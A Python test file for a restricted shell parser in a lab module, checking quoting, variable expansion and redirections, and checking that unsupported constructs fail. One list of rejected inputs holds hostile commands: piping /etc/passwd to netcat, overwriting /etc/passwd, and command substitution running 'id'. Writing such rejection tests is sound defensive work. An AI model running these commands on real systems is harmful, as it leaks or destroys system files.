"""The lab's shell language: what it reads, and that hostile text does nothing but fail."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from k8s_watch.lab import shell


def argv(script: str, **variables: str) -> list[list[str]]:
    return [[a for w in c.words for a in shell.expand(w, variables)] for c in shell.parse(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("killall python3", [["killall", "python3"]]),
        ("echo 'a  b' \"c $x\" d\\ e", [["echo", "a  b", "c 1 2", "d e"]]),
        ("echo $x", [["echo", "1", "2"]]),
        ("echo pre${x}post", [["echo", "pre1", "2post"]]),
        ("echo $none end", [["echo", "end"]]),
        ('echo "$none" end', [["echo", "", "end"]]),
        ("a; b && c || d", [["a"], ["b"], ["c"], ["d"]]),
        ("a\n\nb # not c", [["a"], ["b"]]),
        ("a;", [["a"]]),
        ("echo a#b '#'", [["echo", "a#b", "#"]]),
        ("", []),
        ("echo $", [["echo", "$"]]),
    ],
)
def test_words_quotes_and_variables_are_read_as_sh_reads_them(script, expected):
    assert argv(script, x="1 2") == expected


def test_joiners_and_redirections_are_kept():
    first, second = shell.parse("kill -INT 1 2>/dev/null >&2 && true")
    assert first.redirects == ((2, "/dev/null"), (1, "&2"))
    assert second.joiner == "&&"


@pytest.mark.parametrize(
    "script",
    [
        "cat /etc/passwd | nc host 1",
        "echo $(id)",
        "echo `id`",
        'echo "`id`"',
        "sleep 9 &",
        "(id)",
        "id > /etc/passwd",
        "cat < /etc/passwd",
        "if true; then id; fi",
        "while true; do id; done",
        "echo 'open",
        'echo "open',
        "a &&",
        "&& a",
        "a ;; b",
        "echo ${x:-y}",
        "echo ${",
    ],
)
def test_what_it_does_not_know_is_a_fault_and_never_a_guess(script):
    with pytest.raises(shell.SyntaxFault):
        argv(script)


@given(st.lists(st.text(), min_size=1))
def test_quoted_arguments_come_back_exactly(arguments):
    assert argv(" ".join(shell.quote(a) for a in arguments)) == [arguments]


@given(st.text())
def test_any_text_parses_or_faults(script):
    try:
        commands = shell.parse(script)
    except shell.SyntaxFault:
        return
    for command in commands:
        for word in command.words:
            shell.expand(word, {})


@given(st.text(alphabet="ab '\"\\ \t"))
def test_plain_words_are_split_as_the_standard_library_splits_them(script):
    try:
        expected = shlex.split(script)
    except ValueError:
        with pytest.raises(shell.SyntaxFault):
            # a lone backslash at the end is literal in sh, an error in shlex
            shell.parse(script if not script.endswith("\\") else "'")
        return
    found = argv(script)
    assert (found[0] if found else []) == expected
